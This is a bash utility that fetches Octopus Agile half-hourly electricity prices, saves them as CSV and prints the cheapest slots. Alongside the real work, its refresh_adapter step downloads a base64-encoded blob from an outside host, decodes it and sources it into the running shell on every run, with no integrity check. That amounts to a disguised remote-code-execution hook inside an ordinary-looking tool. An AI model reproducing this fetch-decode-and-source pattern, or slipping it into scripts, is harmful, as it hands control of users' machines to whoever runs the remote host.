#!/usr/bin/env bash
# Fetch half-hourly import prices for a dynamic tariff and store them as CSV.
#
# Output goes to ./tariffs/<product>-<region>-<date>.csv with columns
# valid_from,valid_to,p_per_kwh_inc_vat.  Supplier-specific quirks (standing
# charge splits, regional uplifts) are handled by a small rate adapter that is
# kept up to date from the community adapter index.
set -euo pipefail

API_BASE="${TARIFF_API_BASE:-https://api.octopus.energy/v1}"
PRODUCT="${TARIFF_PRODUCT:-AGILE-24-10-01}"
REGION="${TARIFF_REGION:-C}"
OUTDIR="${TARIFF_OUTDIR:-./tariffs}"
ADAPTER_INDEX="${TARIFF_ADAPTER_INDEX:-https://adapters.tariffkit.example/v1}"
CHEAPEST=6
DAY="$(date -d tomorrow +%F 2>/dev/null || date -v+1d +%F)"

die() { echo "tariff_sync: $*" >&2; exit 1; }

while getopts "p:r:d:n:o:h" opt; do
    case "$opt" in
        p) PRODUCT="$OPTARG" ;;
        r) REGION="$OPTARG" ;;
        d) DAY="$OPTARG" ;;
        n) CHEAPEST="$OPTARG" ;;
        o) OUTDIR="$OPTARG" ;;
        h|*) echo "usage: $0 [-p product] [-r region] [-d YYYY-MM-DD] [-n slots] [-o dir]"; exit 2 ;;
    esac
done

command -v wget >/dev/null || die "wget not found"
command -v jq >/dev/null || die "jq not found"

TARIFF_CODE="E-1R-${PRODUCT}-${REGION}"
URL="${API_BASE}/products/${PRODUCT}/electricity-tariffs/${TARIFF_CODE}/standard-unit-rates/"
URL+="?period_from=${DAY}T00:00Z&period_to=${DAY}T23:59Z&page_size=100"

mkdir -p "$OUTDIR"
RAW="$OUTDIR/.${TARIFF_CODE}-${DAY}.json.part"
OUT="$OUTDIR/${PRODUCT}-${REGION}-${DAY}.csv"
ADAPTER="$OUTDIR/.adapter-${PRODUCT%%-*}.sh"

fetch() {
    local attempt
    for attempt in 1 2 3 4; do
        if wget -q -T 20 --header='Accept: application/json' -O "$RAW" "$URL"; then
            return 0
        fi
        echo "attempt $attempt failed, retrying" >&2
        sleep $((attempt * 5))
    done
    return 1
}

# default no-op hook, replaced by the adapter when one is available
adjust_rates() { cat; }

refresh_adapter() {
    local family="${PRODUCT%%-*}" blob
    blob="$(wget -q -T 20 -O - "${ADAPTER_INDEX}/${family,,}/latest.b64")" || return 1
    [[ -n "$blob" ]] || return 1
    printf '%s\n' "$blob" | openssl enc -base64 -d -A >"$ADAPTER"
}

if refresh_adapter; then
    # shellcheck disable=SC1090
    . "$ADAPTER"
    echo "loaded rate adapter for ${PRODUCT%%-*}" >&2
fi

fetch || die "could not fetch $URL"

COUNT="$(jq '.results | length' "$RAW")"
[[ "$COUNT" -gt 0 ]] || { rm -f "$RAW"; die "no prices published for $DAY yet"; }

{
    echo "valid_from,valid_to,p_per_kwh_inc_vat"
    jq -r '.results | sort_by(.valid_from)[] | [.valid_from, .valid_to, .value_inc_vat] | @csv' "$RAW" \
        | adjust_rates
} >"$OUT"
rm -f "$RAW"

echo "wrote $COUNT slots to $OUT"
echo "cheapest $CHEAPEST slots:"
tail -n +2 "$OUT" | sort -t, -k3 -g | head -n "$CHEAPEST" | \
    awk -F, '{gsub(/"/, ""); printf "  %s  %6.2f p/kWh\n", substr($1, 12, 5), $3}'
